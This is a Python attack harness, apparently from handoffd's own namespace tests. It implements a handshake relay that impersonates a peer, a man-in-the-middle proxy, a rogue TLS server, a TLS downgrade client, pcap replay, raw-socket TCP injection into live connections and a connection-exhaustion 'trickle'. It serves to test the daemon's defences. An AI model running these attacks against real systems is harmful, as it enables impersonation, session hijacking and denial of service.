#!/usr/bin/env python3
"""Attacks on handoffd's control channel, for the namespace tests.

Each subcommand prints what it saw and exits 0 when it ran, whatever the
daemons did: the tests judge by the daemons' logs, counters and web
servers.  Standard library only.

  psk KEYFILE CLIENT SERVER
      The TLS pre-shared key of handoffd(8) for CLIENT dialling SERVER, in
      hex (a second implementation of psk.c's derivation).
  relay --src ADDR A B [--request PATH]
      The attack on version 1's handshake, whose MAC was the same in both
      directions: take A's HELLO to B and B's to A, so that B computes the
      AUTH that A expects from B; present it to A as B, and hand A a
      connection carrying PATH.  A and B are HOST:PORT.
  proxy --listen ADDR:PORT --src ADDR TARGET [--seconds N]
      Sit where a peer should be, and pipe whatever connects (a node
      dialling that peer) to TARGET: a handshake reflected to its sender,
      or relayed to another node.
  certserver --listen ADDR:PORT --cert PEM --key PEM [--seconds N]
      Sit where a peer should be and answer with TLS and a certificate.
  tls12 --src ADDR TARGET
      A TLS 1.2 client (no key).
  probe --src ADDR TARGET
      Connect, send a byte, and say how soon the daemon closed.
  replay PCAP --src ADDR TARGET
      Send the client-to-server bytes of the largest TCP stream to TARGET
      in PCAP, as they were captured, from ADDR.
  inject PCAP --client ADDR TARGET
      On the path (raw socket): into the live connection from ADDR to
      TARGET that PCAP is still capturing, at the sequence numbers it
      expects next, inject the largest frame or TLS record ADDR sent on it.
  trickle --src ADDR[,ADDR...] TARGET --conns N --interval S --seconds S
      Keep N connections open to TARGET, each sending one byte every S
      seconds; a closed one is reopened after S seconds.
"""
import argparse
import errno
import hashlib
import hmac
import os
import selectors
import socket
import ssl
import struct
import sys
import time

from rawtcp import csum


def hostport(s):
    h, p = s.rsplit(":", 1)
    return h, int(p)


def log(*a):
    print(*a, flush=True)


# --- psk --------------------------------------------------------------

def hkdf(salt, ikm, info, length=32):
    prk = hmac.new(salt, ikm, hashlib.sha256).digest()
    t, okm, i = b"", b"", 1
    while len(okm) < length:
        t = hmac.new(prk, t + info + bytes([i]), hashlib.sha256).digest()
        okm += t
        i += 1
    return okm[:length]


def cmd_psk(a):
    key = open(a.keyfile, "rb").read()
    if key.endswith(b"\r\n"):
        key = key[:-2]
    elif key.endswith(b"\n"):
        key = key[:-1]
    c, s = a.client.encode(), a.server.encode()
    info = b"tls13 psk" + bytes([len(c)]) + c + bytes([len(s)]) + s
    print(hkdf(b"handoffd control v2", key, info).hex())


# --- version 1 frames -------------------------------------------------

V1 = 1
V1_HELLO, V1_AUTH, V1_HANDOFF = 1, 2, 3


def frame(ver, typ, payload):
    return b"HD" + bytes([ver, typ]) + struct.pack("!I", len(payload)) + payload


def connect(src, target, timeout=3.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src, 0))
    s.settimeout(timeout)
    s.connect(hostport(target))
    return s


def read_frame(s):
    """One frame (version, type, payload), or None on timeout or close."""
    buf = b""
    try:
        while len(buf) < 8:
            d = s.recv(8 - len(buf))
            if not d:
                return None
            buf += d
        if buf[:2] != b"HD":
            return None
        n = struct.unpack("!I", buf[4:8])[0]
        if n > 4096:
            return None
        p = b""
        while len(p) < n:
            d = s.recv(n - len(p))
            if not d:
                return None
            p += d
        return buf[2], buf[3], p
    except (socket.timeout, OSError):
        return None


def v1_hello(node_id, nonce):
    i = node_id.encode()
    return frame(V1, V1_HELLO, bytes([len(i)]) + i + nonce)


def parse_hello(p):
    n = p[0]
    return p[1:1 + n].decode(errors="replace"), p[1 + n:]


def handoff_v1(caddr, cport, vaddr, vport, data):
    fixed = struct.pack("!Q4sH4sHIIHBBHBBHIII", 0x4141414141414141,
                        socket.inet_aton(caddr), cport,
                        socket.inet_aton(vaddr), vport,
                        1000, 5000, 1460, 0, 0, 65535, 0, 0, 1460, 0, 0,
                        len(data))
    assert len(fixed) == 50
    return frame(V1, V1_HANDOFF, fixed + data)


def cmd_relay(a):
    # Both connections first: each daemon says HELLO when it accepts.
    sa = connect(a.src, a.a)
    sb = connect(a.src, a.b)
    log("connected to A %s and B %s from %s" % (a.a, a.b, a.src))
    # Both at once, within 2 s: the daemons wait for no one for long.
    sa.settimeout(2)
    sb.settimeout(0.1)
    ha, hb = read_frame(sa), read_frame(sb)
    if ha is None or hb is None or ha[1] != V1_HELLO or hb[1] != V1_HELLO:
        log("no version-1 HELLO from %s: the handshake is not the one "
            "this attack breaks" % ("A" if ha is None else "B"))
        # Say the forged HELLOs anyway, so the daemons see the attempt.
        for s, claim in ((sa, a.claim_b), (sb, a.claim_a)):
            try:
                s.sendall(v1_hello(claim, os.urandom(32)))
            except OSError:
                pass
        time.sleep(1)
        sa.close()
        sb.close()
        log("relay: attack failed")
        return 0
    sa.settimeout(3)
    sb.settimeout(3)
    ida, na = parse_hello(ha[2])
    idb, nb = parse_hello(hb[2])
    log("A is %s, B is %s" % (ida, idb))
    # To A, "B" with B's nonce; to B, "A" with A's nonce.
    sa.sendall(v1_hello(idb, nb))
    sb.sendall(v1_hello(ida, na))
    # B answers A's nonce: HMAC(nA | nB | B | A), what A wants from B.
    auth = None
    for _ in range(3):
        f = read_frame(sb)
        if f is None:
            break
        if f[1] == V1_AUTH:
            auth = f[2]
            break
    if auth is None:
        log("B sent no AUTH")
        log("relay: attack failed")
        return 0
    sa.sendall(frame(V1, V1_AUTH, auth))
    req = ("GET %s HTTP/1.1\r\nHost: attack\r\nConnection: close\r\n\r\n"
           % a.request).encode()
    sa.sendall(handoff_v1("10.0.0.66", 4444, a.vip, 80, req))
    log("sent AUTH and a HANDOFF for %s to A" % a.request)
    # Whatever A says; if it keeps the connection, it took us for B.
    sa.settimeout(2)
    f = read_frame(sa)
    while f is not None and f[1] == V1_AUTH:
        f = read_frame(sa)
    log("A answered: %s" % (f and (f[1], len(f[2]))))
    time.sleep(1)
    sa.close()
    sb.close()
    log("relay: done")
    return 0


# --- byte pipes -------------------------------------------------------

def listener(addr):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(hostport(addr))
    ls.listen(16)
    return ls


def cmd_proxy(a):
    ls = listener(a.listen)
    sel = selectors.DefaultSelector()
    sel.register(ls, selectors.EVENT_READ, None)
    end = time.time() + a.seconds
    pairs = 0
    moved = [0, 0]
    while time.time() < end:
        for key, _ in sel.select(timeout=0.2):
            if key.data is None:
                c, peer = ls.accept()
                try:
                    t = connect(a.src, a.target, timeout=2)
                except OSError as e:
                    log("connect to %s: %s" % (a.target, e))
                    c.close()
                    continue
                c.setblocking(False)
                t.setblocking(False)
                sel.register(c, selectors.EVENT_READ, (t, 0))
                sel.register(t, selectors.EVENT_READ, (c, 1))
                pairs += 1
                log("piping %s:%d to %s" % (peer[0], peer[1], a.target))
                continue
            other, way = key.data
            try:
                d = key.fileobj.recv(65536)
            except OSError:
                d = b""
            if not d:
                for s in (key.fileobj, other):
                    try:
                        sel.unregister(s)
                    except (KeyError, ValueError):
                        pass
                    s.close()
                continue
            moved[way] += len(d)
            try:
                other.sendall(d)
            except OSError:
                pass
    log("proxy: %d connections piped, %d bytes from the dialler, %d back"
        % (pairs, moved[0], moved[1]))
    return 0


def cmd_certserver(a):
    ls = listener(a.listen)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(a.cert, a.key)
    ls.settimeout(0.5)
    end = time.time() + a.seconds
    n = 0
    while time.time() < end:
        try:
            c, peer = ls.accept()
        except socket.timeout:
            continue
        c.settimeout(2)
        try:
            t = ctx.wrap_socket(c, server_side=True)
            log("handshake with %s:%d completed?!" % peer)
            t.close()
        except (ssl.SSLError, OSError) as e:
            n += 1
            log("handshake with %s:%d: %s" % (peer[0], peer[1], e))
            c.close()
    log("certserver: %d handshakes refused by the dialler" % n)
    return 0


def cmd_tls12(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    s = connect(a.src, a.target)
    try:
        t = ctx.wrap_socket(s)
        log("TLS 1.2 handshake completed?! %s" % t.version())
    except (ssl.SSLError, OSError) as e:
        log("tls12: refused: %s" % e)
    return 0


def cmd_probe(a):
    t0 = time.time()
    try:
        s = connect(a.src, a.target)
        s.sendall(b"\x16")
        s.settimeout(a.seconds)
        d = s.recv(4096)
        how = "closed" if not d else "answered %d bytes" % len(d)
    except socket.timeout:
        how = "still open"
    except OSError as e:
        how = "closed (%s)" % e.strerror
    log("probe: %s after %d ms" % (how, (time.time() - t0) * 1000))
    return 0


# --- pcap -------------------------------------------------------------

def pcap_streams(path):
    """{(src, sport, dst, dport): {seq: bytes}} and the SYN's ISNs."""
    data = open(path, "rb").read()
    magic = struct.unpack("<I", data[:4])[0]
    if magic in (0xa1b2c3d4, 0xa1b23c4d):
        e = "<"
    else:
        e = ">"
    linktype = struct.unpack(e + "I", data[20:24])[0]
    off = 24
    streams, isn = {}, {}
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(e + "IIII", data[off:off + 16])
        pkt = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if linktype == 1:			# Ethernet
            if len(pkt) < 14 or pkt[12:14] != b"\x08\x00":
                continue
            ip = pkt[14:]
        elif linktype == 113:			# Linux cooked
            if len(pkt) < 16 or pkt[14:16] != b"\x08\x00":
                continue
            ip = pkt[16:]
        elif linktype in (12, 101):		# raw IP
            ip = pkt
        else:
            continue
        if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 6:
            continue
        ihl = (ip[0] & 15) * 4
        tot = struct.unpack("!H", ip[2:4])[0]
        tcp = ip[ihl:tot]
        if len(tcp) < 20:
            continue
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        doff = (tcp[12] >> 4) * 4
        flags = tcp[13]
        k = (socket.inet_ntoa(ip[12:16]), sport,
             socket.inet_ntoa(ip[16:20]), dport)
        if flags & 0x02:			# SYN
            isn[k] = seq
        payload = tcp[doff:]
        if payload:
            streams.setdefault(k, {})[seq] = payload
    return streams, isn


def pcap_packets(path):
    """Every IPv4 TCP packet: (src, sport, dst, dport, seq, ack, flags,
    window, options, payload)."""
    data = open(path, "rb").read()
    e = "<" if struct.unpack("<I", data[:4])[0] in (0xa1b2c3d4,
                                                   0xa1b23c4d) else ">"
    linktype = struct.unpack(e + "I", data[20:24])[0]
    off, out = 24, []
    while off + 16 <= len(data):
        incl = struct.unpack(e + "I", data[off + 8:off + 12])[0]
        pkt = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if linktype == 1 and pkt[12:14] == b"\x08\x00":
            ip = pkt[14:]
        elif linktype == 113 and pkt[14:16] == b"\x08\x00":
            ip = pkt[16:]
        elif linktype in (12, 101):
            ip = pkt
        else:
            continue
        if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 6:
            continue
        ihl = (ip[0] & 15) * 4
        tcp = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
        if len(tcp) < 20:
            continue
        sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
        doff = (tcp[12] >> 4) * 4
        win = struct.unpack("!H", tcp[14:16])[0]
        out.append((socket.inet_ntoa(ip[12:16]), sport,
                    socket.inet_ntoa(ip[16:20]), dport, seq, ack, tcp[13],
                    win, tcp[20:doff], tcp[doff:]))
    return out


def cmd_inject(a):
    host, port = hostport(a.target)
    pk = pcap_packets(a.pcap)
    # The live connections: a SYN, no FIN or RST either way.
    conns = {}
    for p in pk:
        if p[0] == a.client and p[2] == host and p[3] == port:
            k = p[1]
        elif p[0] == host and p[1] == port and p[2] == a.client:
            k = p[3]
        else:
            continue
        if p[6] & 0x02 and p[0] == a.client:
            conns[k] = True
        if p[6] & 0x05 and k in conns:
            conns[k] = False
    live = [k for k, v in conns.items() if v]
    if not live:
        log("inject: no live connection from %s to %s" % (a.client,
                                                          a.target))
        return 1
    cport = live[-1]
    up = [p for p in pk if p[0] == a.client and p[1] == cport]
    down = [p for p in pk if p[0] == host and p[2] == a.client and
            p[3] == cport]

    def after(p):			# the sequence number after p
        n = len(p[9]) + (1 if p[6] & 0x03 else 0)
        return (p[4] + n) & 0xffffffff

    def latest(ps):
        v = after(ps[0])
        for p in ps[1:]:
            if ((after(p) - v) & 0xffffffff) < 0x80000000:
                v = after(p)
        return v
    seq, ack = latest(up), latest(down)
    last = up[-1]
    # A whole frame (version 1, in clear) or TLS application data.
    cands = [p[9] for p in up if p[9][:2] == b"HD" or
             p[9][:3] == b"\x17\x03\x03"]
    if not cands:
        log("inject: nothing to replay")
        return 1
    data = max(cands, key=len)
    opts = last[8]
    tcp = struct.pack("!HHIIBBHHH", cport, port, seq, ack,
                      (20 + len(opts)) // 4 << 4, 0x18, last[7], 0, 0)
    tcp += opts + data
    src, dst = socket.inet_aton(a.client), socket.inet_aton(host)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     int.from_bytes(os.urandom(2), "big"), 0x4000, 64, 6, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.sendto(ip + tcp, (host, 0))
    log("inject: %d bytes into %s:%d > %s at seq %u ack %u (%s)"
        % (len(data), a.client, cport, a.target, seq, ack,
           "a frame in clear" if data[:2] == b"HD" else "a TLS record"))
    return 0


def cmd_replay(a):
    host, port = hostport(a.target)
    streams, isn = pcap_streams(a.pcap)
    cands = [(sum(map(len, segs.values())), k)
             for k, segs in streams.items()
             if k[2] == host and k[3] == port and k in isn]
    if not cands:
        log("replay: no whole stream to %s in %s" % (a.target, a.pcap))
        return 1
    total, k = max(cands)
    segs = streams[k]
    start = (isn[k] + 1) & 0xffffffff
    out, nxt = b"", start
    for seq in sorted(segs, key=lambda s: (s - start) & 0xffffffff):
        d = segs[seq]
        rel = (seq - nxt) & 0xffffffff
        if rel > 0x7fffffff:			# overlap: a retransmission
            skip = (nxt - seq) & 0xffffffff
            d = d[skip:] if skip < len(d) else b""
        elif rel:
            log("replay: gap of %d bytes" % rel)
            break
        out += d
        nxt = (nxt + len(d)) & 0xffffffff
    log("replay: stream %s:%d > %s:%d, %d bytes" % (k + (len(out),)))
    s = connect(a.src, a.target)
    got = 0
    try:
        s.sendall(out)
        s.settimeout(3)
        while True:
            d = s.recv(65536)
            if not d:
                break
            got += len(d)
    except OSError as e:
        log("replay: %s" % e)
    log("replay: sent %d bytes, got %d back" % (len(out), got))
    return 0


# --- trickle ----------------------------------------------------------

def cmd_trickle(a):
    srcs = a.src.split(",")
    host, port = hostport(a.target)
    sel = selectors.DefaultSelector()
    slots = [None] * a.conns		# socket, or the time to reopen
    opened = closed = failed = sent = 0
    peak = 0
    t0 = time.time()
    end = t0 + a.seconds
    nextsend = {}

    def reopen(i, now):
        nonlocal opened, failed
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((srcs[i % len(srcs)], 0))
            s.connect_ex((host, port))
        except OSError:
            failed += 1
            s.close()
            slots[i] = now + a.interval
            return
        slots[i] = s
        opened += 1
        nextsend[i] = now + a.interval * (i % 16) / 16
        sel.register(s, selectors.EVENT_READ, i)

    def drop(i, now):
        nonlocal closed
        s = slots[i]
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        closed += 1
        slots[i] = now + a.interval

    # Open them over the first interval, not in one burst.
    for i in range(a.conns):
        slots[i] = t0 + a.interval * i / a.conns
    last_report = t0
    while True:
        now = time.time()
        if now >= end:
            break
        for key, _ in sel.select(timeout=0.05):
            i = key.data
            try:
                d = key.fileobj.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                d = b""
            if not d:
                drop(i, now)
        live = 0
        for i in range(a.conns):
            v = slots[i]
            if isinstance(v, float):
                if now >= v:
                    reopen(i, now)
                continue
            live += 1
            if now >= nextsend[i]:
                try:
                    v.send(b"\x16")
                    sent += 1
                except BlockingIOError:
                    pass
                except OSError:
                    drop(i, now)
                    continue
                nextsend[i] = now + a.interval
        peak = max(peak, live)
        if now - last_report >= 5:
            log("trickle: %ds: %d open, %d opened, %d closed by the "
                "daemon" % (now - t0, live, opened, closed))
            last_report = now
    for v in slots:
        if not isinstance(v, float):
            v.close()
    log("trickle: %d opened, %d closed by the daemon, %d failed to open, "
        "%d bytes sent, at most %d open" % (opened, closed, failed, sent,
                                           peak))
    return 0


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    q = sub.add_parser("psk")
    q.add_argument("keyfile")
    q.add_argument("client")
    q.add_argument("server")
    q = sub.add_parser("relay")
    q.add_argument("--src", required=True)
    q.add_argument("--request", default="/relay-attack")
    q.add_argument("--vip", default="10.9.0.1")
    q.add_argument("--claim-a", default="n2",
                   help="the id told to B when A says nothing")
    q.add_argument("--claim-b", default="n1",
                   help="the id told to A when B says nothing")
    q.add_argument("a")
    q.add_argument("b")
    q = sub.add_parser("proxy")
    q.add_argument("--listen", required=True)
    q.add_argument("--src", required=True)
    q.add_argument("--seconds", type=float, default=5)
    q.add_argument("target")
    q = sub.add_parser("certserver")
    q.add_argument("--listen", required=True)
    q.add_argument("--cert", required=True)
    q.add_argument("--key", required=True)
    q.add_argument("--seconds", type=float, default=5)
    q = sub.add_parser("tls12")
    q.add_argument("--src", required=True)
    q.add_argument("target")
    q = sub.add_parser("probe")
    q.add_argument("--src", required=True)
    q.add_argument("--seconds", type=float, default=3)
    q.add_argument("target")
    q = sub.add_parser("replay")
    q.add_argument("--src", required=True)
    q.add_argument("pcap")
    q.add_argument("target")
    q = sub.add_parser("inject")
    q.add_argument("--client", required=True)
    q.add_argument("pcap")
    q.add_argument("target")
    q = sub.add_parser("trickle")
    q.add_argument("--src", required=True)
    q.add_argument("--conns", type=int, default=3000)
    q.add_argument("--interval", type=float, default=2.0)
    q.add_argument("--seconds", type=float, default=20)
    q.add_argument("target")
    a = p.parse_args()
    return globals()["cmd_" + a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
